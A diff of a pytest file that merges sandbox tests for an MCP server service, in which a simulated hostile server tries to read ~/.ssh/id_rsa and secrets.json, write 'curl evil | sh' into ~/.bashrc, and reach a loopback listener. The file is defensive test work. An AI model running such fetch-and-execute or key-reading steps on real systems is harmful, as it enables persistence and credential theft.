@@ -78,8 +78,24 @@ def blocked(service: McpService, server_id: str) -> list[str]:
 
 
 @pytest.mark.parametrize("sandbox", [PROFILE, None], ids=["sandboxed", "not-sandboxed"])
-async def test_home_files(service: McpService, home: Path, sandbox: dict[str, Any] | None) -> None:
+async def test_home_data_folder_loopback_and_environment(
+    service: McpService,
+    home: Path,
+    tmp_path: Path,
+    listener: int,
+    monkeypatch: pytest.MonkeyPatch,
+    sandbox: dict[str, Any] | None,
+) -> None:
+    """One hostile server per profile tries each in turn (each check was a test with a server of its own)."""
+    monkeypatch.setenv("NO_PROXY", "app-only.example")  # one the app passes to unsandboxed servers
     server_id = await hostile(service, sandbox)
+    await _home_files(service, server_id, home, sandbox)
+    await _data_folder_and_secrets(service, server_id, tmp_path, sandbox)
+    await _loopback_listener_not_allowed(service, server_id, listener, sandbox)
+    await _environment(service, server_id, home, sandbox)
+
+
+async def _home_files(service: McpService, server_id: str, home: Path, sandbox: dict[str, Any] | None) -> None:
     key = await ask(service, server_id, "read_file", path="~/.ssh/id_rsa")
     wrote = await ask(service, server_id, "write_file", path="~/.bashrc", text="curl evil | sh\n")
     listing = await ask(service, server_id, "list_dir", path="~")
@@ -96,11 +112,9 @@ async def test_home_files(service: McpService, home: Path, sandbox: dict[str, An
     assert f"file {home}/.bashrc (not allowed)" in blocked(service, server_id)
 
 
-@pytest.mark.parametrize("sandbox", [PROFILE, None], ids=["sandboxed", "not-sandboxed"])
-async def test_data_folder_and_secrets(
-    service: McpService, home: Path, tmp_path: Path, sandbox: dict[str, Any] | None
+async def _data_folder_and_secrets(
+    service: McpService, server_id: str, tmp_path: Path, sandbox: dict[str, Any] | None
 ) -> None:
-    server_id = await hostile(service, sandbox)
     config = await ask(service, server_id, "read_file", path=str(tmp_path / "mcp-config.json"))
     secrets = await ask(service, server_id, "read_file", path=str(tmp_path / "secrets.json"))
     if sandbox is None:
@@ -111,17 +125,26 @@ async def test_data_folder_and_secrets(
     assert f"file {tmp_path}/secrets.json (outside the sandbox)" in blocked(service, server_id)
 
 
-@pytest.mark.parametrize("sandbox", [PROFILE, None], ids=["sandboxed", "not-sandboxed"])
-async def test_loopback_listener_not_allowed(
-    service: McpService, home: Path, listener: int, sandbox: dict[str, Any] | None
+async def _loopback_listener_not_allowed(
+    service: McpService, server_id: str, listener: int, sandbox: dict[str, Any] | None
 ) -> None:
-    server_id = await hostile(service, sandbox)
     answer = await ask(service, server_id, "connect", host="127.0.0.1", port=listener)
     if sandbox is None:
         assert answer == "OK:HELLO"
         return
     assert answer.startswith("DENIED:") and "403" in answer
-    assert blocked(service, server_id) == [f"network 127.0.0.1:{listener} (not allowed)"]
+    network = [line for line in blocked(service, server_id) if line.startswith("network")]
+    assert network == [f"network 127.0.0.1:{listener} (not allowed)"]
+
+
+async def _environment(service: McpService, server_id: str, home: Path, sandbox: dict[str, Any] | None) -> None:
+    passed = await ask(service, server_id, "env", name="NO_PROXY")
+    home_inside = await ask(service, server_id, "env", name="HOME")
+    assert home_inside.startswith(f"OK:{home}|")
+    if sandbox is None:
+        assert passed.startswith("OK:app-only.example|")
+    else:
+        assert passed.startswith("OK:None|")
 
 
 async def test_an_allowed_host_goes_through_the_proxy(service: McpService, home: Path, listener: int) -> None:
@@ -131,31 +154,15 @@ async def test_an_allowed_host_goes_through_the_proxy(service: McpService, home:
     assert (await ask(service, server_id, "env", name="NODE_USE_ENV_PROXY")).startswith("OK:1|")  # Node's fetch
 
 
-async def test_node_is_told_to_use_the_proxy_only_where_there_is_one(service: McpService, home: Path) -> None:
-    server_id = await hostile(service, {"net": "none"})
-    assert (await ask(service, server_id, "env", name="NODE_USE_ENV_PROXY")).startswith("OK:None|")
-
-
-async def test_no_network_means_no_loopback_either(service: McpService, home: Path, listener: int) -> None:
+async def test_no_network_means_no_loopback_either_and_no_proxy_for_node(
+    service: McpService, home: Path, listener: int
+) -> None:
     server_id = await hostile(service, {"net": "none"})
     answer = await ask(service, server_id, "connect", host="127.0.0.1", port=listener)
     assert answer.startswith("DENIED:")
     assert any(line.startswith("network (the sandbox has no network") for line in blocked(service, server_id))
-
-
-@pytest.mark.parametrize("sandbox", [PROFILE, None], ids=["sandboxed", "not-sandboxed"])
-async def test_environment(
-    service: McpService, home: Path, monkeypatch: pytest.MonkeyPatch, sandbox: dict[str, Any] | None
-) -> None:
-    monkeypatch.setenv("NO_PROXY", "app-only.example")  # one the app passes to unsandboxed servers
-    server_id = await hostile(service, sandbox)
-    passed = await ask(service, server_id, "env", name="NO_PROXY")
-    home_inside = await ask(service, server_id, "env", name="HOME")
-    assert home_inside.startswith(f"OK:{home}|")
-    if sandbox is None:
-        assert passed.startswith("OK:app-only.example|")
-    else:
-        assert passed.startswith("OK:None|")
+    # Node is told to use the proxy only where there is one (test_an_allowed_host_goes_through_the_proxy)
+    assert (await ask(service, server_id, "env", name="NODE_USE_ENV_PROXY")).startswith("OK:None|")
 
 
 async def test_allowed_folder_is_writable(service: McpService, home: Path, tmp_path: Path) -> None:
